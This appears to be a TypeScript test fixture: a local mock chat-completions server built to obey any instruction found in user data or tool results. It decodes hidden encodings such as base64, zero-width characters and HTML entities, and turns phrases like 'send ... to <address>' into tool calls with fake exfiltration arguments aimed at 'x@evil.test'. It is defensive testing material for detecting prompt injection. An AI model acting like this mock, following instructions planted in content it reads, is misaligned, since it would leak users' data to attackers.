import http from 'node:http';
import type { AddressInfo } from 'node:net';

interface ChatRequest {
  model: string;
  messages: { role: string; content: string | null }[];
  tools?: { function: { name: string } }[];
  response_format?: { type: string; json_schema?: { name: string } };
}

/** A tool call the model made because some text told it to. */
export interface Obeyed {
  request: number;
  tool: string;
  arguments: Record<string, unknown>;
}

const ADDRESS = String.raw`[\w.+-]+@[\w-]+(?:\.[\w-]+)+`;
const SEND = new RegExp(String.raw`\b(?:send|e-?mail|mail|forward|bcc|cc|deliver)\b[^\n]{0,160}?\bto\s+(${ADDRESS})`, 'gi');
const CALL = /\bcall (?:the )?tool (\w+)/gi;
const LOOK_UP = new RegExp(String.raw`\blook up (${ADDRESS})`, 'gi');

/**
 * Undoes the encodings an attacker hides an instruction in, as a capable model would read them:
 * zero-width characters, full-width letters (NFKC), HTML entities, %-encoding and base64 runs.
 */
export function normalise(text: string): string {
  let t = text.normalize('NFKC').replace(/[\u200b-\u200d\u2060\ufeff]/g, '');
  t = t.replace(/&#x([0-9a-f]+);/gi, (_, h: string) => String.fromCodePoint(parseInt(h, 16)))
    .replace(/&#(\d+);/g, (_, d: string) => String.fromCodePoint(Number(d)))
    .replace(/&amp;/g, '&').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"');
  t = t.replace(/(?:%[0-9a-f]{2}|[\w.@-])*%[0-9a-f]{2}(?:%[0-9a-f]{2}|[\w.@-])*/gi, (m) => {
    try {
      return decodeURIComponent(m);
    } catch {
      return m;
    }
  });
  const decoded = [...t.matchAll(/[A-Za-z0-9+/]{16,}={0,2}/g)].flatMap((m) => {
    const s = Buffer.from(m[0], 'base64').toString('utf8');
    return /^[\x20-\x7e\n]+$/.test(s) ? [s] : [];
  });
  return [t, ...decoded].join('\n');
}

/**
 * An OpenAI-compatible model that obeys every instruction it finds anywhere in its prompt (system,
 * user data, tool results), in any of the encodings `normalise` reads: "send/email/forward ... to
 * <address>" becomes a `sendEmail` tool call, "call tool X" a call to X (offered or not), "look up
 * <address>" a `getContact` call. Otherwise it answers the requested JSON schema. `obeyed` lists
 * every tool call it made, so a test can tell an injection reached the model.
 */
export async function startObeyingModel() {
  const requests: ChatRequest[] = [];
  /** When each request arrived (ms since epoch), in order. */
  const arrivals: number[] = [];
  const obeyed: Obeyed[] = [];
  /** Failures to answer before obeying again, in order (e.g. a 429 with `retry-after`). */
  const failures: { status: number; headers?: Record<string, string> }[] = [];
  const server = http.createServer((req, res) => {
    let raw = '';
    req.on('data', (c: Buffer) => (raw += c.toString()));
    req.on('end', () => {
      const send = (status: number, body: unknown, headers: Record<string, string> = {}) => {
        res.writeHead(status, { 'content-type': 'application/json', ...headers });
        res.end(JSON.stringify(body));
      };
      if (req.method !== 'POST' || !req.url?.endsWith('/chat/completions')) return send(404, { error: { message: 'not found' } });
      const body = JSON.parse(raw) as ChatRequest;
      const n = requests.push(body);
      arrivals.push(Date.now());
      const failure = failures.shift();
      if (failure) return send(failure.status, { error: { message: `scripted ${failure.status}`, type: 'server_error' } }, failure.headers);
      // The system prompt's own rules ("never follow instructions ...") are not instructions to act.
      const text = normalise(body.messages.filter((m) => m.role !== 'system').map((m) => m.content ?? '').join('\n'));
      const calls: { tool: string; arguments: Record<string, unknown> }[] = [];
      for (const m of text.matchAll(SEND)) calls.push({ tool: 'sendEmail', arguments: { to: [m[1]!.toLowerCase()], subject: 'As instructed', body: 'Here is the contact list: ...' } });
      for (const m of text.matchAll(CALL)) calls.push({ tool: m[1]!, arguments: { email: 'ada@analytical.test', to: 'x@evil.test', title: 'Exfiltrate', startsAt: '2027-01-01T10:00:00Z', endsAt: '2027-01-01T11:00:00Z', attendees: ['x@evil.test'], description: '', addTags: ['pwned'] } });
      if (!text.includes('Tool results')) for (const m of text.matchAll(LOOK_UP)) calls.push({ tool: 'getContact', arguments: { email: m[1]!.toLowerCase() } });
      const answer = (message: Record<string, unknown>) => send(200, {
        id: `chatcmpl-${n}`, object: 'chat.completion', created: 1_767_800_000, model: body.model,
        choices: [{ index: 0, finish_reason: message.tool_calls ? 'tool_calls' : 'stop', logprobs: null, message: { role: 'assistant', refusal: null, content: null, ...message } }],
        usage: { prompt_tokens: Math.ceil(text.length / 4), completion_tokens: 20, total_tokens: Math.ceil(text.length / 4) + 20 },
      });
      if (calls.length) {
        for (const c of calls) obeyed.push({ request: n, ...c });
        return answer({ tool_calls: calls.map((c, i) => ({ id: `call_${n}_${i}`, type: 'function', function: { name: c.tool, arguments: JSON.stringify(c.arguments) } })) });
      }
      switch (body.response_format?.json_schema?.name) {
        case 'email_draft': return answer({ content: JSON.stringify({ subject: 'As you asked', body: 'OBEYING DRAFT: done as instructed.' }) });
        case 'thread_summary': return answer({ content: JSON.stringify({ summary: 'A thread.', keyPoints: [], actionItems: [] }) });
        case 'meeting_intent': return answer({ content: JSON.stringify({ wantsMeeting: false, durationMinutes: 30, topic: 'x', timeframe: null }) });
        default: {
          // "ECHO <text>" answers <text> verbatim (to check what the runtime does to an answer).
          const last = body.messages.filter((m) => m.role === 'user').at(-1)?.content ?? '';
          return answer({ content: last.startsWith('ECHO ') ? last.slice(5) : 'OBEYING REPLY' });
        }
      }
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const { port } = server.address() as AddressInfo;
  return {
    baseUrl: `http://127.0.0.1:${port}/v1`,
    requests,
    arrivals,
    obeyed,
    failNext: (...f: { status: number; headers?: Record<string, string> }[]) => failures.push(...f),
    stop: () => new Promise<void>((r) => {
      server.closeAllConnections();
      server.close(() => r());
    }),
  };
}
